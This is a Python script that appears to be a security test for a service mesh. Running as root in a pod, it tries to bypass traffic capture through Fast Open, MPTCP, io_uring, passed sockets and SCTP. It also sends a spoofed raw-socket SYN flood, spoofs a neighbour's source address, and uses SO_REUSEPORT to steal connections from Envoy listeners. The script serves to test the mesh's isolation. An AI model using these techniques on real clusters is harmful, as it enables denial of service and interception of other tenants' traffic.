"""What a root process inside a pod tries: ways around capture, and ways into the mesh's listeners.

Standard library only; prints one JSON object. Arguments: VIP and port of a `probe.py serve` behind the fast path, and
the address of another pod. `web` must be an HTTP service.
"""

from __future__ import annotations

import ctypes
import http.client
import json
import mmap
import os
import selectors
import socket
import struct
import subprocess
import sys
import threading
from collections.abc import Callable

IPPROTO_MPTCP = 262
TCP_FASTOPEN_CONNECT, TCP_FASTOPEN_NO_COOKIE = 30, 34
REQUESTS = 20
RELAYED = 5
FLOOD = 20000  # SYNs, of as many senders that do not exist


def answer(sock: socket.socket) -> str:
    """What the server says to `who`; the error's name if there is no connection."""
    return str(json.loads(sock.makefile().readline())["client"])


def fast_open(host: str, port: int) -> str:
    """connect() by the first sendto(): another way through the kernel than connect(2)."""
    with socket.socket() as sock:
        sock.sendto(b"who\n", socket.MSG_FASTOPEN, (host, port))
        return answer(sock)


def multipath(host: str, port: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP) as sock:
        sock.connect((host, port))
        sock.sendall(b"who\n")
        return answer(sock)


def deferred(host: str, port: int) -> str:
    """connect() that sends nothing: the first send() is the SYN."""
    with socket.socket() as sock:
        for option in (TCP_FASTOPEN_NO_COOKIE, TCP_FASTOPEN_CONNECT):
            sock.setsockopt(socket.IPPROTO_TCP, option, 1)
        sock.connect((host, port))
        sock.sendall(b"who\n")
        return answer(sock)


class Ring:
    """An io_uring of one entry (io_uring_setup(2)). `polled`: a thread of the kernel takes what is submitted."""

    SETUP, ENTER = 425, 426  # system calls, the same on every architecture
    SQPOLL, GET_EVENTS, WAKE_UP = 2, 1, 2
    SQ_RING, SQES = 0, 0x10000000  # offsets for mmap; both rings are one map (Linux 5.4)
    CONNECT, SOCKET = 16, 45

    def __init__(self, polled: bool) -> None:
        self._libc = ctypes.CDLL(None, use_errno=True)
        params = bytearray(120)
        struct.pack_into("<II", params, 8, self.SQPOLL if polled else 0, 0)
        view = (ctypes.c_char * len(params)).from_buffer(params)
        self._fd = self._call(self.SETUP, 1, view)
        self._polled = polled
        self._sq_tail, self._sq_array, self._cq_head, self._cqes = (
            struct.unpack_from("<I", params, at)[0] for at in (44, 64, 80, 100)
        )
        self._answers = struct.unpack_from("<I", params, 4)[0]
        size = max(self._sq_array + 4, self._cqes + 16 * self._answers)
        self._ring = mmap.mmap(self._fd, size, offset=self.SQ_RING)
        self._sqe = mmap.mmap(self._fd, 64, offset=self.SQES)

    def _call(self, *words: object) -> int:
        result = int(self._libc.syscall(*words))
        if result < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return result

    def _add(self, at: int) -> int:
        (value,) = struct.unpack_from("<I", self._ring, at)
        struct.pack_into("<I", self._ring, at, value + 1)
        return int(value)

    def do(self, opcode: int, fd: int, offset: int, address: int = 0, length: int = 0) -> int:
        """One operation to its end: what it returned. Raises OSError as the system call would."""
        self._sqe[:] = struct.pack("<BBHiQQI", opcode, 0, 0, fd, offset, address, length).ljust(64, b"\0")
        struct.pack_into("<I", self._ring, self._sq_array, 0)
        self._add(self._sq_tail)
        flags = self.GET_EVENTS | (self.WAKE_UP if self._polled else 0)
        self._call(self.ENTER, self._fd, 1, 1, flags, None, 0)
        at = self._cqes + 16 * (self._add(self._cq_head) % self._answers)
        (result,) = struct.unpack_from("<i", self._ring, at + 8)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return int(result)


def by_ring(host: str, port: int, polled: bool = False) -> str:
    """A socket that is made and connected by io_uring; no thread of ours calls socket(2) or connect(2)."""
    ring = Ring(polled)
    name = ctypes.create_string_buffer(struct.pack("<H", socket.AF_INET) + struct.pack(">H", port)
                                       + socket.inet_aton(host) + bytes(8))  # fmt: skip
    with socket.socket(fileno=ring.do(Ring.SOCKET, socket.AF_INET, socket.SOCK_STREAM)) as sock:
        ring.do(Ring.CONNECT, sock.fileno(), 16, ctypes.addressof(name))
        sock.sendall(b"who\n")
        return answer(sock)


def passed(host: str, port: int) -> str:
    """A socket that another process made, and gave away before it was connected."""
    ours, theirs = socket.socketpair(socket.AF_UNIX)
    with ours, theirs, socket.socket() as made:
        socket.send_fds(theirs, [b"x"], [made.fileno()])
        if (child := os.fork()) == 0:
            _, fds, _, _ = socket.recv_fds(ours, 1, 1)
            with socket.socket(fileno=fds[0]) as sock:
                sock.connect((host, port))
            os._exit(0)
        os.waitpid(child, 0)
        made.sendall(b"who\n")
        return answer(made)


def stream_of_messages(host: str, port: int) -> str:
    """SCTP in place of TCP, where the kernel has it."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_SCTP) as sock:
        sock.connect((host, port))
        sock.sendall(b"who\n")
        return answer(sock)


def flood(address: str, port: int) -> int:
    """SYNs to a listener of the mesh from senders that do not exist, and one half of them to its other addresses."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for n in range(FLOOD):
            source = socket.inet_aton(f"127.{1 + n % 70}.{n // 70 % 256}.9")
            to = socket.inet_aton(address if n % 2 else f"127.77.{n % 128}.{n // 128 % 256}")
            tcp = struct.pack(">HHIIBBHHH", 1024 + n, port, n, 0, 5 << 4, 2, 65535, 0, 0)
            total = sum(struct.unpack(">10H", tcp)) + sum(struct.unpack(">4H", source + to)) + 6 + len(tcp)
            total = (total & 0xFFFF) + (total >> 16)
            tcp = tcp[:16] + struct.pack(">H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + tcp[18:]
            head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, to)
            sock.sendto(head + tcp, (socket.inet_ntoa(to), 0))
    return FLOOD


def bound_to(source: str, host: str) -> str:
    """X-Forwarded-For as the server got it from a client that bound a source."""
    subprocess.run(["ip", "address", "add", f"{source}/32", "dev", "lo"], check=True)
    try:
        connection = http.client.HTTPConnection(host, 80, timeout=120, source_address=(source, 0))
        connection.request("GET", "/", headers={"Host": "web"})
        return str(json.load(connection.getresponse())["headers"]["x-forwarded-for"])
    finally:
        subprocess.run(["ip", "address", "del", f"{source}/32", "dev", "lo"], check=True)


def relayed_as(source: str, host: str, port: int) -> int:
    """Connections over TCP that were accepted from a client that bound a source; whatever became of them then."""
    subprocess.run(["ip", "address", "add", f"{source}/32", "dev", "lo"], check=True)
    try:
        for _ in range(RELAYED):
            with socket.socket() as sock:
                sock.bind((source, 0))
                sock.connect((host, port))
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")  # none lingers
    finally:
        subprocess.run(["ip", "address", "del", f"{source}/32", "dev", "lo"], check=True)
    return RELAYED


def join(address: str, port: int) -> socket.socket:
    """A listener that claims an address and port which the mesh listens on."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.bind((address, port))
    sock.listen()
    return sock


def steal(address: str, port: int, host: str) -> int:
    """How many of REQUESTS requests to an HTTP service end at a listener of ours instead of Envoy's."""
    thieves = [join(address, port) for _ in range(4)]
    selector = selectors.DefaultSelector()
    for thief in thieves:
        selector.register(thief, selectors.EVENT_READ)
    done = threading.Thread(target=ask_often, args=(host,))
    done.start()
    stolen = 0
    while done.is_alive():
        for key, _ in selector.select(0.1):
            assert isinstance(key.fileobj, socket.socket)
            key.fileobj.accept()[0].close()
            stolen += 1
    return stolen


def ask_often(host: str) -> None:
    for _ in range(REQUESTS):
        connection = http.client.HTTPConnection(host, 80, timeout=120)
        try:
            connection.request("GET", "/", headers={"Host": "web"})
            connection.getresponse().read()
        except (OSError, http.client.HTTPException):
            pass


def listener(address: str) -> int:
    """Port on which something listens at an IPv4 address of this netns."""
    lines = subprocess.run(["ss", "-Hltn4"], check=True, capture_output=True, text=True).stdout.split()
    return next(int(word.rpartition(":")[2]) for word in lines if word.startswith(f"{address}:"))


def outcome(attack: Callable[[], object]) -> object:
    try:
        return attack()
    except OSError as error:
        return error.__class__.__name__ if error.errno != 98 else "EADDRINUSE"


def main() -> None:
    vip, port, victim = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    web = socket.gethostbyname("web")
    fastpath, envoy = listener("127.77.0.1"), listener("127.77.0.2")
    attacks: dict[str, Callable[[], object]] = {
        "fast open": lambda: fast_open(vip, port),
        "mptcp": lambda: multipath(vip, port),
        "fast open to capture": lambda: fast_open("127.77.0.1", fastpath),
        "mptcp to capture": lambda: multipath("127.77.0.1", fastpath),
        "deferred fast open": lambda: deferred(vip, port),
        "io_uring": lambda: by_ring(vip, port),
        "io_uring, polled": lambda: by_ring(vip, port, polled=True),
        "io_uring to capture": lambda: by_ring("127.77.0.1", fastpath),
        "passed": lambda: passed(vip, port),
        "sctp": lambda: stream_of_messages(vip, port),
        "flood": lambda: flood("127.77.0.1", fastpath) + flood("127.77.0.2", envoy),
        "after the flood": lambda: fast_open(vip, port),
        "neighbour's address": lambda: bound_to(victim, web),
        "relayed as a neighbour": lambda: relayed_as(victim, vip, port),
        "join fastpath": lambda: join("127.77.0.1", fastpath).close(),
        "join fastpath by wildcard": lambda: join("0.0.0.0", fastpath).close(),
        "steal from envoy": lambda: steal("127.77.0.2", envoy, web),
        "steal from envoy by wildcard": lambda: steal("0.0.0.0", envoy, web),
    }
    json.dump({name: outcome(attack) for name, attack in attacks.items()}, sys.stdout)


if __name__ == "__main__":
    main()
